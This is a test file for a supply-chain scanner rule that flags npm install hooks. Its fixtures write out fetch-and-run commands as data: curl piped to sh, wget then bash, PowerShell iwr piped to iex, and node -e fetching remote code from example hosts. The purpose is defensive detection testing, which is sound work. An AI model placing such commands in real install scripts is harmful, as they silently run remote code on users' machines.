import { ownInstallScript } from "../../../src/rules/supply-chain/own-install-script.js";
import { ruleTest } from "../../helpers/rule-test.js";

const manifest = (scripts: Record<string, string>, extra: Record<string, unknown> = {}): string =>
  JSON.stringify({ name: "demo-server", version: "1.0.0", ...extra, scripts }, null, 2);

ruleTest(ownInstallScript, {
  fires: [
    {
      name: "postinstall piping curl into sh",
      files: { "package.json": manifest({ build: "tsc", postinstall: "curl -fsSL https://get.example.com/setup.sh | sh" }) },
      count: 1,
      severity: "critical",
      expect: ([f]) => {
        expect(f!.location).toEqual({ path: "package.json", startLine: 6 });
        expect(f!.evidence).toBe("postinstall: curl -fsSL https://get.example.com/setup.sh | sh");
        expect(f!.message).toContain("pipes curl into sh");
      },
    },
    {
      name: "wget download followed by running the file",
      files: { "package.json": manifest({ preinstall: "wget -q https://x.example/bin/agent.sh && bash agent.sh --quiet" }) },
      count: 1,
      severity: "critical",
      expect: ([f]) => expect(f!.message).toContain("downloads https://x.example/bin/agent.sh and then runs it"),
    },
    {
      name: "PowerShell iwr piped into iex inside cmd-style quoting",
      files: { "package.json": manifest({ install: `powershell -NoProfile -Command "iwr https://x.example/i.ps1 -UseBasicParsing | iex"` }) },
      count: 1,
      severity: "critical",
      expect: ([f]) => expect(f!.message).toContain("Invoke-Expression"),
    },
    {
      name: "node -e with an https URL",
      files: { "package.json": manifest({ postinstall: `node -e "require('https').get('https://x.example/p.js', r => r.pipe(process.stdout))"` }) },
      count: 1,
      severity: "critical",
    },
    {
      name: "npx -y of an unpinned package reached through npm run",
      files: { "package.json": manifest({ postinstall: "npm run setup", setup: "npx -y some-setup-tool@latest init" }) },
      count: 1,
      severity: "critical",
      expect: ([f]) => {
        expect(f!.message).toContain('(through "setup")');
        expect(f!.message).toContain("npx -y fetches some-setup-tool@latest");
      },
    },
    {
      name: "a local file run by node names that file",
      files: { "package.json": manifest({ postinstall: "node scripts/postinstall.js" }), "scripts/postinstall.js": "console.log('hi')\n" },
      count: 1,
      severity: "high",
      expect: ([f]) => expect(f!.message).toContain("runs scripts/postinstall.js on every install"),
    },
    {
      name: "a plain install hook and a pinned npx -y stay high",
      files: { "package.json": manifest({ preinstall: "echo installing", install: "npx -y only-allow@1.2.1 pnpm" }) },
      count: 2,
      severity: "high",
    },
    {
      name: "a root binding.gyp with no install hook",
      files: { "package.json": manifest({ build: "tsc" }), "binding.gyp": "{ 'targets': [] }\n" },
      count: 1,
      severity: "high",
      expect: ([f]) => {
        expect(f!.location).toEqual({ path: "binding.gyp", startLine: 1 });
        expect(f!.message).toContain("node-gyp rebuild");
      },
    },
  ],
  quiet: [
    {
      name: "build and prepare scripts are not install hooks",
      files: { "package.json": manifest({ build: "curl https://x | sh", prepare: "husky", test: "jest" }) },
    },
    {
      name: "binding.gyp with gypfile false",
      files: { "package.json": manifest({}, { gypfile: false }) },
      facts: { files: [{ path: "binding.gyp", text: "{}\n" }] },
    },
    {
      name: "no package.json",
      files: { "README.md": "# nothing\n" },
    },
  ],
});
